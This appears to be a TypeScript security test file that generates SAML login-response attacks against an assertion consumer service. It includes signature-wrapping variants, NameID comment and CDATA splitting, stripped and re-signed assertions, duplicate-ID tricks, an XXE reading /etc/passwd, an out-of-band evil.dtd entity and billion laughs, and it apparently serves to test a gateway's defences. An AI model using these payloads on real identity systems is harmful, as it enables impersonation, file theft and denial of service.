// The attacks on the ACS: each edits a login response the test IdP really signed for the attacker.
import {
  NS, assertionOf, child, createIn, edit, emailValues, impersonate, insertAfter, remove, setContent, signatureOf, unsignedCopy
} from './_dom.js'
import { EVIL_ASSERTION_ID, XSW_KINDS, XSW_TITLES, xsw } from './_xsw.js'
import { sign, type AttackSource } from './_source.js'
import {
  ATTACKER, LOOKALIKE, VICTIM, attack, billionLaughs, decoy, evilCopy, extensionsOf, first, inNamespace,
  reprefixAssertion, statusMessage, utf16, withDoctype, type Attack
} from './_attack.js'

const RESPONSE_ONLY = { GATEWAY_WANT_ASSERTIONS_SIGNED: 'false' }
const TAIL = LOOKALIKE.slice(VICTIM.length)
const SAML1_ASSERTION_NS = 'urn:oasis:names:tc:SAML:1.0:assertion'

export function loginAttacks (src: AttackSource): Attack[] {
  const genuine = (o: { sign?: 'assertion' | 'response', algorithm?: 'sha1' } = {}): string => src.response({ nameId: ATTACKER, ...o })
  const lookalike = (): string => src.response({ nameId: LOOKALIKE })
  const asVictim = impersonate(VICTIM)
  /** The genuine response, edited with its signed Assertion at hand. */
  const withSigned = (change: (signed: Element, root: Element, doc: Document) => void): string =>
    edit(genuine(), (doc, root) => change(assertionOf(root), root, doc))
  /** The signed Assertion, its signature removed and its NameID the victim's: ready to re-sign. */
  const strippedForVictim = (): string => withSigned((signed) => { remove(signatureOf(signed)); asVictim(signed) })

  return [
    ...XSW_KINDS.map((kind) => {
      const wrapsResponse = kind === 'xsw1' || kind === 'xsw2'
      return attack({
        id: kind,
        family: 'XSW',
        title: XSW_TITLES[kind],
        xml: xsw(kind, genuine({ sign: wrapsResponse ? 'response' : 'assertion' }), asVictim),
        env: wrapsResponse ? RESPONSE_ONLY : undefined
      })
    }),

    // Comments and CDATA: the signature survives (c14n drops comments, CDATA is text); the value
    // must be read whole, never cut at the first text node.
    attack({
      id: 'comment-in-nameid',
      family: 'comment/CDATA',
      readAs: LOOKALIKE,
      title: `NameID ${LOOKALIKE} split by a comment after \`${VICTIM}\``,
      xml: edit(lookalike(), (_d, root) => setContent(first(root, 'NameID'), `${VICTIM}<!---->${TAIL}`))
    }),
    attack({
      id: 'cdata-in-nameid',
      family: 'comment/CDATA',
      readAs: LOOKALIKE,
      title: `NameID ${LOOKALIKE} with its tail in a CDATA section`,
      xml: edit(lookalike(), (_d, root) => setContent(first(root, 'NameID'), `${VICTIM}<![CDATA[${TAIL}]]>`))
    }),
    attack({
      id: 'comment-in-email',
      family: 'comment/CDATA',
      readAs: LOOKALIKE,
      title: 'email claim split by a comment',
      xml: edit(lookalike(), (_d, root) => emailValues(root).forEach((v) => setContent(v, `${VICTIM}<!---->${TAIL}`)))
    }),
    attack({
      id: 'cdata-in-email',
      family: 'comment/CDATA',
      readAs: LOOKALIKE,
      title: 'email claim with its tail in a CDATA section',
      xml: edit(lookalike(), (_d, root) => emailValues(root).forEach((v) => setContent(v, `${VICTIM}<![CDATA[${TAIL}]]>`)))
    }),
    attack({
      id: 'pi-in-nameid',
      family: 'comment/CDATA',
      keepsGenuineSignature: false,
      title: 'NameID split by a processing instruction (c14n keeps PIs)',
      xml: edit(lookalike(), (_d, root) => setContent(first(root, 'NameID'), `${VICTIM}<?x?>${TAIL}`))
    }),
    attack({
      id: 'cdata-hides-comment',
      family: 'comment/CDATA',
      keepsGenuineSignature: false,
      title: 'NameID with a comment hidden in CDATA (it is text, not a comment)',
      xml: edit(lookalike(), (_d, root) => setContent(first(root, 'NameID'), `${VICTIM}<![CDATA[<!---->]]>${TAIL}`))
    }),

    // A second Assertion next to the signed one.
    attack({
      id: 'unsigned-assertion-before',
      family: 'extra assertion',
      title: 'a second, unsigned Assertion (the victim) before the signed one',
      xml: withSigned((signed, root) => root.insertBefore(evilCopy(signed, asVictim), signed))
    }),
    attack({
      id: 'unsigned-assertion-after',
      family: 'extra assertion',
      title: 'a second, unsigned Assertion (the victim) after the signed one',
      xml: withSigned((signed) => insertAfter(evilCopy(signed, asVictim), signed))
    }),

    // An Assertion hidden where a careless verifier still finds it by ID.
    attack({
      id: 'signed-in-extensions',
      family: 'hidden assertion',
      title: 'the signed Assertion moved into samlp:Extensions, the evil one in its place',
      xml: withSigned((signed, root, doc) => {
        root.insertBefore(evilCopy(signed, asVictim), signed)
        extensionsOf(doc, root).appendChild(signed)
      })
    }),
    attack({
      id: 'evil-in-extensions',
      family: 'hidden assertion',
      title: 'XSW7 schema-valid: the evil Assertion in samlp:Extensions, the signed one in place',
      xml: withSigned((signed, root, doc) => extensionsOf(doc, root).appendChild(evilCopy(signed, asVictim)))
    }),
    attack({
      id: 'signed-in-advice',
      family: 'hidden assertion',
      title: 'the signed Assertion inside saml:Advice of the evil one',
      xml: withSigned((signed, root, doc) => {
        const evil = evilCopy(signed, asVictim)
        root.insertBefore(evil, signed)
        insertAfter(doc.createElementNS(NS.saml, 'Advice'), child(evil, NS.saml, 'Conditions'))
        child(evil, NS.saml, 'Advice').appendChild(signed)
      })
    }),
    attack({
      id: 'signed-in-subject-confirmation-data',
      family: 'hidden assertion',
      title: 'the signed Assertion inside the evil one\'s SubjectConfirmationData',
      xml: withSigned((signed, root) => {
        const evil = evilCopy(signed, asVictim)
        root.insertBefore(evil, signed)
        first(evil, 'SubjectConfirmationData').appendChild(signed)
      })
    }),
    attack({
      id: 'original-in-ds-object',
      family: 'hidden assertion',
      title: 'XSW8 with a real ds:Object: the evil Assertion keeps the signature, the original is in ds:Object',
      xml: withSigned((evil, _root, doc) => {
        const original = unsignedCopy(evil)
        asVictim(evil)
        evil.setAttribute('ID', EVIL_ASSERTION_ID)
        signatureOf(evil).appendChild(createIn(doc, NS.ds, 'ds:Object')).appendChild(original)
      })
    }),
    attack({
      id: 'evil-in-signed-advice',
      family: 'hidden assertion',
      keepsGenuineSignature: false,
      title: 'the evil Assertion inside the signed one\'s Advice',
      xml: withSigned((signed, _root, doc) => {
        const advice = doc.createElementNS(NS.saml, 'Advice')
        insertAfter(advice, child(signed, NS.saml, 'Conditions'))
        advice.appendChild(evilCopy(signed, asVictim))
      })
    }),

    // The signature moved, stripped, re-signed.
    attack({
      id: 'signature-moved-to-response',
      family: 'signature',
      title: 'the Assertion\'s signature moved up to the Response',
      xml: withSigned((signed, root) => insertAfter(remove(signatureOf(signed)), child(root, NS.saml, 'Issuer')))
    }),
    attack({
      id: 'signature-moved-to-subject',
      family: 'signature',
      title: 'the Assertion\'s signature moved into its Subject',
      xml: withSigned((signed) => child(signed, NS.saml, 'Subject').appendChild(remove(signatureOf(signed))))
    }),
    attack({
      id: 'signature-stripped',
      family: 'signature',
      keepsGenuineSignature: false,
      title: 'signature removed, NameID changed to the victim',
      xml: strippedForVictim()
    }),
    attack({
      id: 'resigned-attacker-keyinfo',
      family: 'signature',
      keepsGenuineSignature: false,
      title: 'victim Assertion re-signed with the attacker\'s key, its certificate in KeyInfo',
      xml: sign(strippedForVictim(), 'assertion', { signer: 'attacker', keyInfo: true })
    }),
    attack({
      id: 'resigned-attacker-keyinfo-response',
      family: 'signature',
      keepsGenuineSignature: false,
      env: RESPONSE_ONLY,
      title: 'unsigned victim Assertion in a Response re-signed with the attacker\'s key (KeyInfo)',
      xml: sign(strippedForVictim(), 'root', { signer: 'attacker', keyInfo: true })
    }),
    attack({
      id: 'resigned-hmac-idp-certificate',
      family: 'signature',
      keepsGenuineSignature: false,
      title: 'victim Assertion "signed" with HMAC-SHA1 keyed by the IdP\'s public certificate',
      xml: sign(strippedForVictim(), 'assertion', { hmacKey: src.idpCert })
    }),
    attack({
      id: 'sha1-signature',
      family: 'signature',
      title: 'SHA-1 re-signing: RSA-SHA1 and a SHA-1 digest (by the IdP\'s own key)',
      xml: genuine({ algorithm: 'sha1' })
    }),
    attack({
      id: 'sha1-digest-only',
      family: 'signature',
      title: 'RSA-SHA256 over a SHA-1 digest (by the IdP\'s own key)',
      xml: sign(withSigned((signed) => remove(signatureOf(signed))), 'assertion', { digest: 'sha1' })
    }),

    // DOCTYPE: refused before any parser sees it.
    attack({
      id: 'doctype-internal-entity',
      family: 'DOCTYPE',
      keepsGenuineSignature: false,
      title: `internal entity completing the NameID (${VICTIM}&tail;)`,
      xml: withDoctype(lookalike(), `<!DOCTYPE samlp:Response [<!ENTITY tail "${TAIL}">]>`,
        (x) => x.replace(`>${LOOKALIKE}</NameID>`, `>${VICTIM}&tail;</NameID>`))
    }),
    attack({
      id: 'doctype-external-entity',
      family: 'DOCTYPE',
      title: 'external entity file:///etc/passwd in an unsigned StatusMessage',
      xml: withDoctype(genuine(), '<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', statusMessage('&xxe;'))
    }),
    attack({
      id: 'doctype-parameter-entity',
      family: 'DOCTYPE',
      title: 'external parameter entity (out-of-band XXE)',
      xml: withDoctype(genuine(), '<!DOCTYPE samlp:Response [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>')
    }),
    attack({
      id: 'doctype-billion-laughs',
      family: 'DOCTYPE',
      title: 'billion laughs (lol9) in an unsigned StatusMessage',
      xml: withDoctype(genuine(), billionLaughs('samlp:Response'), statusMessage('&lol9;'))
    }),
    attack({
      id: 'doctype-utf16',
      family: 'DOCTYPE',
      title: 'DOCTYPE in a UTF-16 document (hidden from a UTF-8 scan)',
      ...utf16(withDoctype(genuine(), '<!DOCTYPE samlp:Response [<!ENTITY e "x">]>'))
    }),

    // Namespaces: the same local names in other namespaces, a look-alike ds namespace, new prefixes.
    attack({
      id: 'ns-saml1-assertion-before',
      family: 'namespace',
      title: 'evil Assertion in the SAML 1.0 namespace (same local name) before the signed one',
      xml: withSigned((signed, root) => root.insertBefore(inNamespace(evilCopy(signed, asVictim), NS.saml, SAML1_ASSERTION_NS), signed))
    }),
    attack({
      id: 'ns-unqualified-assertion-before',
      family: 'namespace',
      title: 'evil Assertion in no namespace (xmlns="") before the signed one',
      xml: withSigned((signed, root) => root.insertBefore(inNamespace(evilCopy(signed, asVictim), NS.saml, ''), signed))
    }),
    attack({
      id: 'ns-saml1-assertion-in-extensions',
      family: 'namespace',
      readAs: ATTACKER,
      title: 'evil SAML 1.0-namespace Assertion in samlp:Extensions (schema-valid), the signed one in place',
      xml: withSigned((signed, root, doc) => extensionsOf(doc, root).appendChild(inNamespace(evilCopy(signed, asVictim), NS.saml, SAML1_ASSERTION_NS)))
    }),
    attack({
      id: 'ns-signature-lookalike',
      family: 'namespace',
      keepsGenuineSignature: false,
      title: 'victim Assertion whose signature is moved to a look-alike ds namespace (…/xmldsig, no #)',
      xml: withSigned((signed) => {
        const signature = signatureOf(signed)
        signed.replaceChild(inNamespace(signature, NS.ds, 'http://www.w3.org/2000/09/xmldsig'), signature)
        asVictim(signed)
      })
    }),
    attack({
      id: 'ns-reprefixed-assertion',
      family: 'namespace',
      keepsGenuineSignature: false,
      title: 'the signed Assertion re-written with a saml: prefix instead of the default namespace',
      xml: reprefixAssertion(genuine())
    }),

    // Duplicate IDs: another element answers to the signed ID.
    ...(['ID', 'id', 'x:ID'] as const).map((name) => attack({
      id: `duplicate-id-${name.replace(':', '-').toLowerCase()}${name === 'id' ? '-lower' : ''}`,
      family: 'duplicate ID',
      keepsGenuineSignature: false,
      title: `an Extensions element with \`${name}\` = the signed Assertion's ID`,
      xml: withSigned((signed, root, doc) => extensionsOf(doc, root).appendChild(decoy(doc, name, signed.getAttribute('ID')!)))
    })),
    attack({
      id: 'duplicate-id-response',
      family: 'duplicate ID',
      keepsGenuineSignature: false,
      title: 'the (unsigned) Response given the signed Assertion\'s ID',
      xml: withSigned((signed, root) => root.setAttribute('ID', signed.getAttribute('ID')!))
    }),
    attack({
      id: 'duplicate-id-xsw7-raider',
      family: 'duplicate ID',
      keepsGenuineSignature: false,
      title: 'XSW7 exactly as SAML Raider: the evil copy keeps the signed ID',
      xml: withSigned((signed, root, doc) => {
        const extensions = doc.createElement('Extensions')
        root.insertBefore(extensions, signed)
        extensions.appendChild(evilCopy(signed, asVictim, signed.getAttribute('ID')!))
      })
    }),
    attack({
      id: 'duplicate-id-xsw8-raider',
      family: 'duplicate ID',
      keepsGenuineSignature: false,
      title: 'XSW8 exactly as SAML Raider: the evil Assertion keeps the signed ID',
      xml: withSigned((evil, _root, doc) => {
        const original = unsignedCopy(evil)
        asVictim(evil)
        signatureOf(evil).appendChild(doc.createElement('Object')).appendChild(original)
      })
    })
  ]
}
